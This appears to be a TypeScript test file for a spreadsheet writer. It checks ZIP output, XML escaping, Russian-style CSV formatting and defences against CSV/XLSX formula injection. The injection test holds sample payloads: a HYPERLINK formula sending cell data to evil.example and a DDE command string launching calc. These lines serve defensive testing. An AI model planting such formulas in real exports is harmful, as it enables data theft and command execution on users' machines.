import { fromBuffer, type Entry, type ZipFile } from 'yauzl';
import { crc32, csv, neutraliseFormula, xlsx } from './xlsx';

/** Every entry of a ZIP, read back by a real unzip library (which checks the CRCs and sizes). */
function unzip(bytes: Uint8Array): Promise<Map<string, string>> {
  return new Promise((resolve, reject) => {
    fromBuffer(
      Buffer.from(bytes),
      { lazyEntries: true, validateEntrySizes: true },
      (error, zip?: ZipFile) => {
        if (error || !zip) return reject(error);
        const files = new Map<string, string>();
        zip.on('entry', (entry: Entry) => {
          zip.openReadStream(entry, (err, stream) => {
            if (err || !stream) return reject(err);
            const chunks: Buffer[] = [];
            stream.on('data', (c: Buffer) => chunks.push(c));
            stream.on('error', reject);
            stream.on('end', () => {
              files.set(entry.fileName, Buffer.concat(chunks).toString('utf8'));
              zip.readEntry();
            });
          });
        });
        zip.on('end', () => resolve(files));
        zip.on('error', reject);
        zip.readEntry();
      },
    );
  });
}

describe('xlsx writer', () => {
  it('computes the standard CRC-32', () => {
    expect(crc32(new TextEncoder().encode('123456789'))).toBe(0xcbf43926);
  });

  it('writes a workbook that unzips into SpreadsheetML with the rows, escaped', async () => {
    const bytes = xlsx(
      'Просрочки',
      ['Организация', 'Просрочено'],
      [
        ['Минжкх <СО> & «ЖКХ»', 3],
        ['ГЖИ', null],
      ],
    );
    const files = await unzip(bytes);
    expect([...files.keys()].sort()).toEqual(
      [
        '[Content_Types].xml',
        '_rels/.rels',
        'xl/_rels/workbook.xml.rels',
        'xl/styles.xml',
        'xl/workbook.xml',
        'xl/worksheets/sheet1.xml',
      ].sort(),
    );
    expect(files.get('xl/workbook.xml')).toContain('name="Просрочки"');
    const sheet = files.get('xl/worksheets/sheet1.xml')!;
    expect(sheet).toContain('<t xml:space="preserve">Минжкх &lt;СО&gt; &amp; «ЖКХ»</t>');
    expect(sheet).toContain('<c r="B2"><v>3</v></c>');
    expect(sheet).toContain('<c r="A1" s="1" t="inlineStr">');
    expect(sheet).toContain('<c r="B3"/>');
  });

  it('writes CSV for a Russian Excel: BOM, semicolons, quoted when needed', () => {
    const text = csv(['Номер', 'Текст'], [['2026-000001', 'Холодно; "очень"']]);
    expect(text.startsWith('\uFEFF')).toBe(true);
    expect(text).toBe('\uFEFFНомер;Текст\r\n2026-000001;"Холодно; ""очень"""\r\n');
    // A fraction with the Russian comma (quoted, as the comma is): «96.7» opened as text or as a date.
    expect(csv(['Доля в срок, %'], [[96.7], [100]])).toBe('\uFEFF"Доля в срок, %"\r\n"96,7"\r\n100\r\n');
  });

  it('neutralises cells a spreadsheet would run as formulas (CSV/XLSX injection), in both formats', async () => {
    const hostile = [
      '=HYPERLINK("http://evil.example/?"&A1,"Подробнее")',
      '+7 913 555-12-34',
      '-2+3',
      '@SUM(1+1)',
      '\t=1',
    ];
    expect(hostile.map(neutraliseFormula)).toEqual(hostile.map((h) => `'${h}`));
    expect(neutraliseFormula('Обычный текст = без формулы')).toBe('Обычный текст = без формулы');
    const text = csv(['Текст'], [[hostile[0]], [-5]]);
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Подробнее"")"`);
    // A number stays a number.
    expect(text.endsWith('\r\n-5\r\n')).toBe(true);
    // A formula after a comma or a tab: quoted whole, so an Excel splitting on either keeps it in its cell as text.
    expect(csv(['Текст'], [["Холодно,=cmd|'/C calc'!A0"], ['Холодно\t=1+1']])).toBe(
      `\uFEFFТекст\r\n"Холодно,=cmd|'/C calc'!A0"\r\n"Холодно\t=1+1"\r\n`,
    );
    const sheet = (await unzip(xlsx('Лист', ['Текст'], [[hostile[3]]]))).get('xl/worksheets/sheet1.xml')!;
    expect(sheet).toContain(`<t xml:space="preserve">'@SUM(1+1)</t>`);
  });
});
